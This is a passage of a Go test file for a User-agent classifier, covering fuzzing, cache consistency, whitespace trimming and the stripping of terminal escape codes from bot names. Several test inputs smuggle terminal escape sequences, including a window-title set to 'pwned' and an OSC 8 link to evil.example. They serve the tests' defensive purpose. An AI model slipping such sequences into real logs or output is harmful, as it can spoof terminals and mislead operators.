		"Mozilla/5.0 (compatible; MSIE 12.0; Windows NT 10.0)", "\x1b]0;x\x07EvilBot/1.0", "+a.b", "a@b.c",
	} {
		f.Add(s)
	}
	var shared Classifier
	f.Fuzz(func(t *testing.T, ua string) {
		if shared.parserBytes > MaxParserBytes/2 {
			shared = Classifier{} // past its uap-go budget, answers depend on history by design
		}
		var fresh Classifier
		a, b := fresh.Classify(ua), shared.Classify(ua)
		if a != b {
			t.Fatalf("Classify(%q): %+v from a fresh classifier, %+v from a used one", ua, a, b)
		}
		if a.Name == "" || len(a.Name) > maxNameLen+1+maxNameLen {
			t.Fatalf("Classify(%q).Name = %q", ua, a.Name)
		}
		for i := 0; i < len(a.Name); i++ {
			if c := a.Name[i]; c < 0x20 || c >= 0x7f {
				t.Fatalf("Classify(%q).Name = %q: byte %#x", ua, a.Name, c)
			}
		}
		if (a.Reason == "") != (a.Kind == Browser) {
			t.Fatalf("Classify(%q) = %+v: only browsers have no reason", ua, a)
		}
	})
}

// TestAgentAnswersOutliveTheScratch checks that no answer keeps a slice of
// the buffer the next User-agent is lower-cased into: every labelled string
// classified once, then the whole corpus again through the same classifier
// (whose cache hands back the first answers), must give what a classifier
// of its own gives each string.
func TestAgentAnswersOutliveTheScratch(t *testing.T) {
	bots, browsers := loadLabelledAgents(t)
	all := append(append([]string{}, bots...), browsers...)
	var shared Classifier
	first := make([]Agent, len(all))
	for i, ua := range all {
		first[i] = shared.Classify(ua)
	}
	for i, ua := range all {
		var own Classifier
		want := own.Classify(ua)
		if first[i] != want {
			t.Errorf("%q: kept answer %+v, a fresh classifier's %+v", ua, first[i], want)
		}
		if got := shared.Classify(ua); got != want {
			t.Errorf("%q: cached answer %+v, a fresh classifier's %+v", ua, got, want)
		}
	}
	// The detector's way: every string classified anew, the cache untouched.
	var uncached Classifier
	for i, ua := range all {
		if got := uncached.ClassifyUncached("  " + ua + "\t"); got != first[i] {
			t.Errorf("%q: uncached answer %+v, cached %+v", ua, got, first[i])
		}
	}
	if len(uncached.cache) != 0 {
		t.Errorf("ClassifyUncached filled the cache with %d answers", len(uncached.cache))
	}
}

// TestEscapesAreNoName: terminal escape sequences in a User-agent are no
// part of the robot's name (an OSC 8 link made a robot named "8", a colour
// code one named "31mRedBot"); a browser string that carries them is
// suspicious.
func TestEscapesAreNoName(t *testing.T) {
	var c Classifier
	for _, tt := range []struct {
		ua   string
		kind Kind
		name string
	}{
		{"\x1b[31mRedBot/1.0\x1b[0m", Crawler, "RedBot"},
		{"\x1b]8;;http://evil.example/\x07ClickBot/2.0\x1b]8;;\x07", Crawler, "ClickBot"},
		{"\x1b]0;pwned\x1b\\EvilBot/1.0", Crawler, "EvilBot"},
		{"Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 \x1b[2JFirefox/125.0", Suspicious, "Firefox"},
		{"curl/8.5.0\x1b", Tool, "curl"},
	} {
		a := c.Classify(tt.ua)
		if a.Kind != tt.kind || a.Name != tt.name {
			t.Errorf("Classify(%q) = %v %q, want %v %q", tt.ua, a.Kind, a.Name, tt.kind, tt.name)
		}
	}
}

func TestTrimBlanks(t *testing.T) {
	for _, s := range []string{"", " ", "\t", " \t x \t ", "x", "\tx", "x ", " x y ", "\t\t", "\nx\n", " \u00a0x\u00a0 "} {
		if got, want := trimBlanks(s), strings.Trim(s, " \t"); got != want {
			t.Errorf("trimBlanks(%q) = %q, want %q", s, got, want)
		}
	}
}
